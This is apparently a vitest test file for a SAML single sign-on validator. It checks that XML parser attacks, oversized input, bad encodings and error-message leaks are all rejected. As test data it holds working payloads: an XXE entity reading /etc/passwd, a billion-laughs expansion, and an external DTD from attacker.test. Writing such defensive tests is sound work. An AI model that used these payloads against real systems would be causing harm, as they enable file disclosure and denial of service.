import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { TenantSamlConfig } from '../config/saml-config.types.ts';
import { createTestIdp, encodeSamlResponse, type TestIdp } from '../testing/test-idp.ts';
import { replaceOnce } from '../testing/xml-tampering.ts';
import { beginLogin, createSsoTestContext, expectRejected, tenantFor } from './sso-test-fixture.ts';
import { SamlRejected } from './saml-rejected.ts';

/* Parser-level attacks: refused before any XML parser, signature check or node-saml runs. */

const ctx = createSsoTestContext();
let idp: TestIdp;
let tenant: TenantSamlConfig;
beforeAll(async () => {
  idp = await createTestIdp();
  tenant = tenantFor(idp);
});
afterAll(() => ctx.close());

const validate = (samlResponse: string) => ctx.sso.validateResponse(tenant, samlResponse);
const genuine = async () => idp.responseXml({ request: await beginLogin(ctx.sso, tenant) });

describe('DTDs and entities', () => {
  it('rejects XXE: an external entity reading a local file, used in the NameID', async () => {
    const xml = replaceOnce(await genuine(), '>alice@customer.example<', '>&xxe;<');
    const payload = `<?xml version="1.0"?><!DOCTYPE samlp:Response [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>${xml}`;
    await expectRejected(validate(encodeSamlResponse(payload)), 'dtd_forbidden');
  });

  it('rejects billion laughs (nested entity expansion)', async () => {
    const levels = ['<!ENTITY lol "lol">'];
    for (let i = 1; i <= 9; i += 1)
      levels.push(`<!ENTITY lol${i} "${`&lol${i === 1 ? '' : i - 1};`.repeat(10)}">`);
    const xml = replaceOnce(await genuine(), '>alice@customer.example<', '>&lol9;<');
    await expectRejected(
      validate(encodeSamlResponse(`<!DOCTYPE lolz [${levels.join('')}]>${xml}`)),
      'dtd_forbidden',
    );
  });

  it('rejects an external DTD (parameter entities, out-of-band XXE)', async () => {
    const payload = `<!DOCTYPE samlp:Response SYSTEM "https://attacker.test/evil.dtd">${await genuine()}`;
    await expectRejected(validate(encodeSamlResponse(payload)), 'dtd_forbidden');
  });

  it('rejects a lower-case, whitespace-padded doctype too', async () => {
    await expectRejected(validate(encodeSamlResponse(`<!doctype  x>${await genuine()}`)), 'dtd_forbidden');
  });

  it('rejects an undeclared entity reference as malformed', async () => {
    const xml = replaceOnce(await genuine(), '>alice@customer.example<', '>&xxe;<');
    await expectRejected(validate(encodeSamlResponse(xml)), 'malformed_xml');
  });
});

describe('size and shape limits', () => {
  it('rejects a decoded response over 256 KiB', async () => {
    const padding = `<saml:Attribute Name="pad"><saml:AttributeValue>${'A'.repeat(300 * 1024)}</saml:AttributeValue></saml:Attribute>`;
    const xml = replaceOnce(await genuine(), '</saml:Assertion>', `${padding}</saml:Assertion>`);
    await expectRejected(validate(encodeSamlResponse(xml)), 'input_too_large');
  });

  it('rejects a huge base64 body before decoding it', async () => {
    await expectRejected(validate('A'.repeat(20 * 1024 * 1024)), 'input_too_large');
  });

  it('rejects deep nesting', async () => {
    const deep = `${'<samlp:Extensions>'.repeat(40)}${'</samlp:Extensions>'.repeat(40)}`;
    const xml = replaceOnce(await genuine(), '<samlp:Status>', `${deep}<samlp:Status>`);
    await expectRejected(validate(encodeSamlResponse(xml)), 'input_too_large');
  });

  it('rejects an element flood', async () => {
    const flood = `<samlp:Extensions>${'<x/>'.repeat(5_000)}</samlp:Extensions>`;
    const xml = replaceOnce(await genuine(), '<samlp:Status>', `${flood}<samlp:Status>`);
    await expectRejected(validate(encodeSamlResponse(xml)), 'input_too_large');
  });
});

describe('encoding and syntax', () => {
  it('rejects input that is not base64', () =>
    expectRejected(validate('<samlp:Response/>'), 'invalid_encoding'));
  it('rejects a missing SAMLResponse', () =>
    expectRejected(validate(undefined as unknown as string), 'invalid_encoding'));
  it('rejects bytes that are not UTF-8', () =>
    expectRejected(validate(Buffer.from([0x3c, 0x61, 0xe9, 0x3e]).toString('base64')), 'invalid_encoding'));
  it('rejects a UTF-16 document', async () => {
    const xml = `<?xml version="1.0" encoding="UTF-16"?>${await genuine()}`;
    await expectRejected(validate(Buffer.from(xml, 'utf16le').toString('base64')), 'invalid_encoding');
  });
  it('rejects a document declaring another encoding', async () => {
    await expectRejected(
      validate(encodeSamlResponse(`<?xml version="1.0" encoding="ISO-8859-1"?>${await genuine()}`)),
      'invalid_encoding',
    );
  });
  it('rejects text that is not XML', () =>
    expectRejected(validate(encodeSamlResponse('hello')), 'malformed_xml'));
  it('rejects a truncated document', async () => {
    const xml = await genuine();
    await expectRejected(validate(encodeSamlResponse(xml.slice(0, xml.length - 20))), 'malformed_xml');
  });
  it('rejects processing instructions inside the response', async () => {
    const xml = replaceOnce(await genuine(), '<samlp:Status>', '<?evil x?><samlp:Status>');
    await expectRejected(validate(encodeSamlResponse(xml)), 'unexpected_structure');
  });
});

describe('error messages', () => {
  it('never carry text from the response', async () => {
    const marker = 'MARKER-7f3a9c';
    const request = await beginLogin(ctx.sso, tenant);
    const attempts = [
      idp.responseBase64({ request, assertion: { audiences: [[marker]] } }),
      idp.responseBase64({ request, destination: `https://${marker}.test/acs` }),
      idp.responseBase64({ request, assertion: { issuer: marker } }),
      encodeSamlResponse(`<!DOCTYPE ${marker}>`),
    ];
    for (const attempt of attempts) {
      const error = await validate(attempt).then(
        () => expect.fail('the response was accepted'),
        (e: unknown) => e,
      );
      expect(error).toBeInstanceOf(SamlRejected);
      expect(`${(error as SamlRejected).message} ${(error as SamlRejected).reason}`).not.toContain(marker);
    }
  });
});
